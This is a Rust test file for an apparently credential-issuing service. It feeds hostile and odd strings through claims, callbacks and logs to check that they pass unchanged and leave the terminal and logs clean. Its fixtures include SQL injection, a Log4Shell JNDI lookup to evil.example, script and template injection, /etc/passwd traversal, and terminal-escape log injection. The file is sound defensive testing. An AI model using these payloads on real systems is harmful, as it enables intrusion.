//! Texts that break careless programs, on their way from the front end to the wallet, the front end's callback and the log.

use credenza_tests::callbacks::Sink;
use credenza_tests::process::{Credenza, Options};
use credenza_tests::wallet::Wallet;
use serde_json::{Value, json};

use crate::issuance::errors::assert_error;
use crate::issuance::fixture::{SOON, Service};
use crate::issuance::flow::{Flow, holder};

const TEXTS: [&str; 16] = [
    "\"; DROP TABLE request; --",
    "' OR '1'='1",
    "{\"vc\": {\"type\": [\"Admin\"]}}",
    "back\\slash \\u0000 \\\" end",
    "line\nfeed\r\n\ttab",
    "\u{0}\u{1}\u{7}\u{8}\u{1b}[2J\u{7f}",
    "\u{202e}gnp.exe\u{202c}",
    "שלום עולם مرحبا",
    "👩‍👩‍👧‍👦 🇩🇪 ✈️ 💳",
    "e\u{301} é \u{fb01} ﷽",
    "\u{feff}\u{200b}\u{2028}\u{2029}",
    "<script>alert(1)</script>&amp;\u{2019}",
    "${jndi:ldap://evil.example/a} {{7*7}} %s%n %00",
    "../../etc/passwd",
    "\u{fffd}\u{10ffff}\u{e000}",
    "Z̸̢̛a̴l̷g̶o̵",
];

#[tokio::test]
async fn claims_pass_unchanged() {
    let service = Service::shared();
    for text in TEXTS {
        let mut body = service.employee();
        body["claims"]["given_name"] = json!(text);
        let flow = Flow::start(&service, &body).await;
        assert_eq!(flow.receive(&holder()).await.credential.claims["givenName"], json!(text), "{text:?}");
        assert_eq!(flow.complete().await.status, 202);
    }
}

#[tokio::test]
async fn what_the_person_types_passes_unchanged() {
    let service = Service::shared();
    let holder = holder();
    for text in TEXTS {
        let flow = Flow::start(&service, &service.guest()).await;
        let proof = flow.proof_with_claims(&holder, &[("name", text)]);
        assert_eq!(flow.accepted(&holder, proof).await.credential.claims["name"], json!(text), "{text:?}");
    }
}

#[tokio::test]
async fn names_and_states_pass_unchanged() {
    let service = Service::shared();
    let sink = Sink::start().await;
    for (index, text) in TEXTS.into_iter().enumerate() {
        let mut body = service.employee();
        body["registration"] = json!({"clientName": text, "purpose": text});
        body["callback"] = json!({"url": sink.url("/cb"), "state": text});
        let flow = Flow::start(&service, &body).await;
        assert_eq!(flow.opened.request.client_name.as_deref(), Some(text));
        let received = sink.wait_for(index + 1, SOON).await;
        assert_eq!(received[index].json()["state"], json!(text));
    }
}

#[tokio::test]
async fn a_megabyte_in_one_claim() {
    let service = Service::shared();
    // As the request's body it is too large; as much as fits passes.
    let mut body = service.employee();
    body["claims"]["given_name"] = json!("a".repeat(1 << 20));
    assert_eq!(service.create(&body).await.status, 413);
    for text in ["a".repeat(1_000_000), "😀".repeat(250_000)] {
        body["claims"]["given_name"] = json!(text);
        let flow = Flow::start(&service, &body).await;
        assert_eq!(flow.receive(&holder()).await.credential.claims["givenName"], json!(text));
    }
    let flow = Flow::start(&service, &service.guest()).await;
    let holder = holder();
    let long = "n".repeat(700_000);
    let proof = flow.proof_with_claims(&holder, &[("name", &long)]);
    assert_eq!(flow.accepted(&holder, proof).await.credential.claims["name"], json!(long));
}

#[tokio::test]
async fn many_claims_and_odd_names() {
    let service = Service::shared();
    let mut body = service.employee();
    for number in 0..5000 {
        body["claims"][format!("unknown_{number}")] = json!("x");
    }
    for name in ["__proto__", "constructor", "", "$.given_name", "vc", "a\u{0}b", "💳"] {
        body["claims"][name] = json!("x");
    }
    let flow = Flow::start(&service, &body).await;
    let claims = flow.receive(&holder()).await.credential.claims;
    assert_eq!(
        Value::Object(claims),
        json!({"givenName": "Megan", "familyName": "Bowen", "employeeId": "E-1"})
    );
}

#[tokio::test]
async fn errors_do_not_repeat_values() {
    let service = Service::shared();
    for text in TEXTS {
        let mut body = service.student();
        body["claims"]["photo"] = json!(format!("{text} no picture"));
        let message =
            assert_error(&service.create(&body).await, 400, "badOrMissingField", Some("claims.photo"));
        assert!(!message.contains(text), "{message}");
    }
}

#[tokio::test]
async fn the_terminal_and_the_log_stay_clean() {
    let options = Options { env: vec![("CREDENZA_LOG".into(), "debug".into())], ..Options::default() };
    let credenza = Credenza::start(options).await;
    let service = Service::of(&credenza).await;
    let hostile = "\u{1b}[2J\u{1b}]0;owned\u{7}\r\nfake log line \u{202e}";
    let mut body = service.employee();
    body["registration"]["clientName"] = json!(hostile);
    body["claims"]["given_name"] = json!(hostile);
    body["customer"] = Value::Null;
    let created = service.created(&body).await;
    let wallet = Wallet::new(service.ready.ca_file.as_deref());
    let outcome = wallet.accept(&created.link, &[]).await.expect_success();
    assert!(!outcome.stderr.contains('\u{1b}') && !outcome.stderr.contains('\u{7}'), "{:?}", outcome.stderr);
    // Hostile paths, headers and parameters.
    for path in ["/%1b%5b2J", "/v1.0/%0d%0afake", "/?a=%1b"] {
        service.get(path).await;
    }
    let manifest = format!("{}?request=%1b%5b2J", service.manifest(crate::issuance::fixture::EMPLOYEE));
    let call = service.client.get(manifest).header("accept-language", "\u{1b}".replace('\u{1b}', "x-\"'<>"));
    assert_eq!(crate::issuance::fixture::send(call).await.status, 200);
    let log = credenza.log();
    assert!(
        !log.contains("\u{1b}[2J") && !log.contains('\u{7}') && !log.contains("\nfake log line"),
        "{log:?}"
    );
}
